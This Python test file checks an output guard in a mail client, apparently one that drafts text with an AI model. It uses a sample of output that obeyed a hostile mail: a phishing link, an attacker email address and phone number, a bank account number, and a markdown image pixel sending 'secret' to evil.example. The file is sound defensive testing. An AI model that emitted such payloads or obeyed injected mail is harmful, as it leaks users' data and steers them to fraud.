"""Review (issue 10): what the output guard took out is told to the reader by kind only, so a
hostile mail's link or number cannot come back through the list of what was removed."""
from maildesk_mail_client_pro.infrastructure.output_guard import guard_output, removed_kinds

SOURCE = "Minutes of the meeting attached."


def test_the_reader_learns_what_kind_of_thing_was_removed_never_the_thing():
    obeyed = ("Log in at http://evil.example/pay, write to help@evil.example, call +1 555 0199, "
              "pay GB33 BUKB 2020 1555 5555 55, 4712 items, see evil.example or "
              "![x](https://evil.example/pixel?d=secret).")
    guarded = guard_output(obeyed, [SOURCE], canary="c4n4ry")
    kinds = removed_kinds(guarded.removed)
    assert kinds == ["link", "email", "phone", "account", "figure"]


def test_kinds_stay_kinds_and_nothing_removed_says_nothing():
    assert removed_kinds(["link", "phone", "link"]) == ["link", "phone"]
    assert removed_kinds([]) == removed_kinds(None) == []
